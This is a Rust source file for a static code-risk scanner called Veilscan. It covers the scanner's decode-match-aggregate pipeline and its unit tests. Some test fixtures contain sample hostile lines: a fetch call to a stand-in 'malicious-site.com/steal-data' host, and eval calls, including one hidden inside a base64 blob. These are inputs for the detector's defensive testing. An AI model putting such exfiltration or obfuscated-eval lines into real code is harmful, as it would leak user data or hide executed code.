//! Veilscan - static pattern-based code-risk scanner.
//!
//! Classifies source text by matching a registry of detection rules
//! against the original text and against recursively decoded variants
//! of it (base64, char-code arrays, escape runs). Hits are aggregated
//! into a scored, allowlist-aware [`Verdict`].
//!
//! # Quick Start
//!
//! ```
//! use veilscan::Scanner;
//!
//! # fn main() -> Result<(), veilscan::RuleError> {
//! let scanner = Scanner::new()?;
//! let verdict = scanner.scan("eval(atob('aGVsbG8gd29ybGQ='));");
//!
//! assert!(verdict.score > 0.0);
//! # Ok(())
//! # }
//! ```
//!
//! The core is a pure pipeline: decode, match, aggregate. It holds no
//! state between scans, so one [`Scanner`] can serve any number of
//! threads concurrently.

pub mod allowlist;
pub mod cli;
pub mod decode;
pub mod matcher;
pub mod reporters;
pub mod rules;
pub mod score;
pub mod types;

pub use allowlist::{AllowSpec, Allowlist, AllowlistError};
pub use decode::{DecodeLimits, Decoder, Transform};
pub use reporters::{report, OutputFormat};
pub use rules::{patterns::builtin_rules, Registry, Rule, RuleError, RuleSpec};
pub use types::{truncate, Category, CategoryTally, Hit, Verdict};

use sha2::{Digest, Sha256};

/// Length cap for decoded-payload snippets.
const DECODED_SNIPPET_MAX_CHARS: usize = 160;

/// Scans units of source text against a rule registry and allowlist.
///
/// Construct once, share everywhere: scanning borrows the scanner
/// immutably, so files can be processed on independent threads with no
/// coordination.
pub struct Scanner {
    registry: Registry,
    allowlist: Allowlist,
    decoder: Decoder,
}

impl Scanner {
    /// Scanner with the built-in rule catalog and an empty allowlist.
    pub fn new() -> Result<Self, RuleError> {
        Ok(Self {
            registry: Registry::builtin()?,
            allowlist: Allowlist::empty(),
            decoder: Decoder::default(),
        })
    }

    /// Scanner over explicit parts. Registry and allowlist are built by
    /// the caller (configuration loading is the collaborator's job).
    pub fn with_parts(registry: Registry, allowlist: Allowlist, limits: DecodeLimits) -> Self {
        Self {
            registry,
            allowlist,
            decoder: Decoder::new(limits),
        }
    }

    pub fn registry(&self) -> &Registry {
        &self.registry
    }

    pub fn allowlist(&self) -> &Allowlist {
        &self.allowlist
    }

    /// Scan one unit of text and return its Verdict.
    ///
    /// Never fails: adversarial or malformed content degrades to an
    /// empty verdict or a `limit_reached` flag, not an error.
    pub fn scan(&self, text: &str) -> Verdict {
        let mut hasher = Sha256::new();
        hasher.update(text.as_bytes());
        let content_hash = format!("{:x}", hasher.finalize());

        let expansion = self.decoder.expand(text);

        let mut hits = Vec::new();
        for variant in &expansion.variants {
            // A successful decode is itself evidence: credit the rule
            // bound to the transform, with the decoded text as snippet.
            if let Some(transform) = variant.produced_by() {
                if let Some(rule) = self.registry.rule_for_transform(transform) {
                    hits.push(Hit {
                        rule_id: rule.id.clone(),
                        category: rule.category,
                        severity: rule.severity,
                        offset: 0,
                        length: variant.text.len(),
                        depth: variant.depth,
                        snippet: truncate(&variant.text, DECODED_SNIPPET_MAX_CHARS),
                        suppressed: false,
                    });
                }
            }

            hits.extend(matcher::scan_variant(variant, &self.registry));
        }

        tracing::debug!(
            variants = expansion.variants.len(),
            hits = hits.len(),
            limit_reached = expansion.limit_reached,
            "scan complete"
        );

        score::aggregate(hits, &self.allowlist, expansion.limit_reached, content_hash)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_empty_text_empty_verdict() {
        let scanner = Scanner::new().unwrap();
        let verdict = scanner.scan("");
        assert_eq!(verdict.score, 0.0);
        assert!(verdict.hits.is_empty());
        assert!(!verdict.limit_reached);
    }

    #[test]
    fn test_plain_prose_no_hits() {
        let scanner = Scanner::new().unwrap();
        let verdict =
            scanner.scan("The quick brown fox jumps over the lazy dog.\nNothing to see here.\n");
        assert_eq!(verdict.score, 0.0);
        assert!(verdict.hits.is_empty());
    }

    #[test]
    fn test_decoded_payload_credited_at_depth() {
        let scanner = Scanner::new().unwrap();
        let verdict = scanner.scan("const greeting = atob('aGVsbG8gd29ybGQ=');");

        let enc: Vec<_> = verdict
            .hits
            .iter()
            .filter(|h| h.rule_id == "enc-base64-payload")
            .collect();
        assert_eq!(enc.len(), 1);
        assert_eq!(enc[0].depth, 1);
        assert_eq!(enc[0].snippet, "hello world");
    }

    #[test]
    fn test_payload_rematched_after_decode() {
        use base64::Engine;
        let blob = base64::engine::general_purpose::STANDARD.encode("eval('hidden payload')");
        let scanner = Scanner::new().unwrap();
        let verdict = scanner.scan(&format!("run('{}');", blob));

        // The eval call inside the decoded layer is found at depth 1.
        assert!(verdict
            .hits
            .iter()
            .any(|h| h.rule_id == "exec-eval" && h.depth == 1));
    }

    #[test]
    fn test_scan_is_deterministic() {
        let scanner = Scanner::new().unwrap();
        let text = r#"
            eval('x');
            fetch('https://malicious-site.com/steal-data');
            const s = atob('aGVsbG8gd29ybGQ=');
        "#;
        let a = scanner.scan(text);
        let b = scanner.scan(text);
        assert_eq!(a, b);
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap()
        );
    }

    #[test]
    fn test_scanner_is_sync() {
        fn assert_sync<T: Sync>() {}
        assert_sync::<Scanner>();
    }
}
